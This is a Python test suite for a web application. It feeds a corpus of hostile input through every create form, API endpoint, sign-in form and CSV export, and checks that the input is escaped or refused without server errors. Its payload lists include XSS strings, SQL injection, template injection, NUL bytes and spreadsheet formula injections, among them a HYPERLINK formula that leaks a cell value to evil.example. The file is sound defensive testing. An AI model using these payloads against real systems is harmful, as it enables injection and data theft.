"""A corpus of hostile input (HTML and script, Markdown links to javascript:, spreadsheet
formulas, SQL-looking text, template syntax, over-long text, NUL bytes, broken characters and
bytes that are not UTF-8) sent into every create form and every API create: each is stored and
shown escaped, or refused with a clear message; never a 500."""

import csv
import io
import types
import typing

import pytest

from coi import db
from coi.models import User
from coi.resources import RESOURCES
from coi.web import forms
from tests import test_access
from tests.test_access import _login

env = test_access.env  # a module-scoped app and world of its own

ACCEPTED_OR_SAFE = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">link</a>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE user; --",
    "1' OR '1'='1",
    "{{ 7*7 }} {% raw %}",
    "Ünïcödé — “quotes” ✓ 𝔘 \u202eevil.exe",
    "x" * 10_000,
]
UNSTORABLE = ["before\x00after", "broken \ud800 half"]
RAW_HTML = ("<script>alert", "<img src=x", 'href="javascript:')
# The world's record of each kind, whose values make a valid create body.
BASE = {"organisations": "ulo", "partnerships": "partnership", "people": "person",
        "users": "ulo_staff", "board-members": "board_member", "income": "income",
        "arrangements": "arrangement", "engagements": "engagement",
        "opportunities": "opportunity", "bids": "bid", "declarations": "declaration",
        "flags": "flag"}
_n = iter(range(1, 10**6))


def _text_fields(schema) -> list[tuple[str, bool]]:
    """(name, is a list) for every free-text field of a schema."""
    out = []
    for name, info in schema.model_fields.items():
        inner, listed = info.annotation, False
        for _ in range(4):
            origin = typing.get_origin(inner)
            if origin in (typing.Union, types.UnionType):
                inner = next(a for a in typing.get_args(inner) if a is not type(None))
            elif origin is typing.Annotated:
                inner = typing.get_args(inner)[0]
            elif origin is list:
                inner, listed = typing.get_args(inner)[0], True
        if inner is str:
            out.append((name, listed))
    return out


def _base_body(res, world) -> dict | None:
    """A create body that the API accepts, with fresh unique values."""
    record = world.get(BASE.get(res.name, ""))
    if record is None:
        return None
    public = res.public(record)
    body = {k: public[k] for k in res.spec.create_schema.model_fields if k in public}
    n = next(_n)
    for key in ("name", "title", "reference", "source_name"):
        if isinstance(body.get(key), str):
            body[key] = f"{body[key]} {n}"
    if "email" in body:
        body["email"] = f"person{n}@example.org"
    if res.name == "users":
        body["password"] = "correct horse battery staple"
    return body


def _cases(app, world):
    with app.test_request_context():
        for res in RESOURCES.values():
            if not res.can_create(db.session().get(User, world["admin"].id)):
                continue
            for field, listed in _text_fields(res.spec.create_schema):
                yield res, field, listed


def _creatable(app, world) -> list:
    cases = list(_cases(app, world))
    assert len(cases) >= 15, "the corpus should reach every create form's text fields"
    return cases


def _show_is_escaped(client, res, record_id: int, payload: str) -> None:
    html = client.get(f"/{res.name}/{record_id}").get_data(as_text=True)
    for raw in RAW_HTML:
        if raw in payload:
            assert raw not in html, f"{res.name} {record_id} shows {raw!r} unescaped"


def _check_api(client, res, field, listed, body, payload) -> str:
    body[field] = [payload] if listed else payload
    response = client.post(f"/api/v1/{res.name}", json=body)
    where = f"API {res.name}.{field} {payload[:30]!r}"
    assert response.status_code < 500, where
    if response.status_code == 201:
        created = response.get_json()
        if field in created:  # a password is never echoed
            stored = created[field]
            stored = " ".join(stored) if isinstance(stored, list) else stored
            assert stored == payload.strip(), where
        _show_is_escaped(client, res, created["id"], payload)
        return "stored"
    problem = response.get_json()
    assert response.status_code in (400, 409, 422), where
    assert problem["detail"] and (problem.get("errors") or response.status_code != 422), where
    return "refused"


def test_hostile_text_through_every_api_create_is_stored_or_refused(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    outcomes = {"stored": 0, "refused": 0}
    for res, field, listed in _creatable(app, world):
        for payload in ACCEPTED_OR_SAFE:
            with app.test_request_context():
                body = _base_body(res, world)
            if body is not None:
                outcomes[_check_api(client, res, field, listed, body, payload)] += 1
    assert outcomes["stored"] > 50 and outcomes["refused"] > 10, outcomes


def test_nul_and_broken_characters_are_refused_naming_the_field(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    for res, field, listed in _creatable(app, world):
        for payload in UNSTORABLE:
            with app.test_request_context():
                body = _base_body(res, world)
            if body is None:
                continue
            body[field] = [payload] if listed else payload
            response = client.post(f"/api/v1/{res.name}", json=body)
            assert response.status_code == 422, f"{res.name}.{field}"
            fields = [e["field"] for e in response.get_json()["errors"]]
            assert fields == [field], f"{res.name}.{field}: {fields}"
            assert "cannot store" in response.get_json()["errors"][0]["message"]


def _form_data(app, world, res, body: dict) -> dict:
    with app.test_request_context():
        admin = db.session().get(User, world["admin"].id)
        fields = forms.fields_of(res.spec.create_schema, res.overrides, res.choices(admin))
    return forms.record_values(body, fields)


def test_hostile_text_through_every_create_form_is_saved_or_explained(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    outcomes = {302: 0, 422: 0}
    for res, field, _listed in _creatable(app, world):
        for payload in ACCEPTED_OR_SAFE + UNSTORABLE[:1]:  # a form cannot carry a half
            with app.test_request_context():
                body = _base_body(res, world)
            if body is None:
                continue
            data = _form_data(app, world, res, body)
            data[field] = payload
            response = client.post(f"/{res.name}/new", data=data)
            where = f"form {res.name}.{field} {payload[:30]!r}: {response.status_code}"
            assert response.status_code in (302, 422), where
            outcomes[response.status_code] += 1
            html = response.get_data(as_text=True)
            if response.status_code == 422:
                assert "There is a problem" in html or "cannot store" in html, where
            else:
                _show_is_escaped(client, res, int(response.headers["Location"].split("/")[-1]),
                                 payload)
            assert not [raw for raw in RAW_HTML if raw in payload and raw in html], where
    assert outcomes[302] > 50 and outcomes[422] > 10, outcomes


def test_a_json_body_that_is_not_utf8_is_refused_clearly(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    response = client.post("/api/v1/people", data=b'{"name": "\xff\xfe\xfa"}',
                           content_type="application/json")
    assert response.status_code == 400
    assert "JSON" in response.get_json()["detail"]


def test_a_form_with_bytes_that_are_not_utf8_is_kept_safe(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    body = f"name=Caf%E9+%FF%FE&organisation_id={world['ulo'].id}".encode()
    response = client.post("/people/new", data=body,
                           content_type="application/x-www-form-urlencoded")
    assert response.status_code in (302, 422)
    nul = client.post("/people/new", data=b"name=a%00b&organisation_id=1",
                      content_type="application/x-www-form-urlencoded")
    assert nul.status_code == 422
    assert "cannot store" in nul.get_data(as_text=True)


@pytest.mark.parametrize("url", ["/engagements?q=%00", "/engagements?q=%ED%A0%80",
                                 "/api/v1/engagements?q=a%00b", "/engagements/%00",
                                 "/people?q=" + "x" * 10_000])
def test_hostile_addresses_get_an_answer_not_a_crash(env, url):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "ulo_staff")
    assert client.get(url).status_code in (200, 400, 404, 422)


def test_sign_in_with_hostile_input_is_just_a_failed_sign_in(env):
    app, _ = env
    client = app.test_client()
    for email in ("a\x00b@example.org", "x" * 10_000, "'; DROP TABLE user; --",
                  "<script>alert(1)</script>"):
        response = client.post("/login", data={"email": email, "password": email})
        assert response.status_code == 422
        assert "<script>alert(1)" not in response.get_data(as_text=True)


def test_a_body_over_the_limit_is_refused_with_413(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    response = client.post("/api/v1/people", data=b"x" * (2 * 1024 * 1024 + 1),
                           content_type="application/json")
    assert response.status_code == 413


def test_csv_export_neutralises_spreadsheet_formulas(env):
    app, world = env
    client = app.test_client()
    _login(app, client, world, "admin")
    hostile = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "-1+1",
               "@SUM(1+1)"]
    for title in hostile:
        with app.test_request_context():
            body = _base_body(RESOURCES["engagements"], world)
        body["title"] = title
        assert client.post("/api/v1/engagements", json=body).status_code == 201
    response = client.get("/engagements?format=csv&per_page=500")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    column = rows[0].index("title")
    titles = {row[column] for row in rows[1:]}
    for title in hostile:
        assert "'" + title in titles
        assert title not in titles
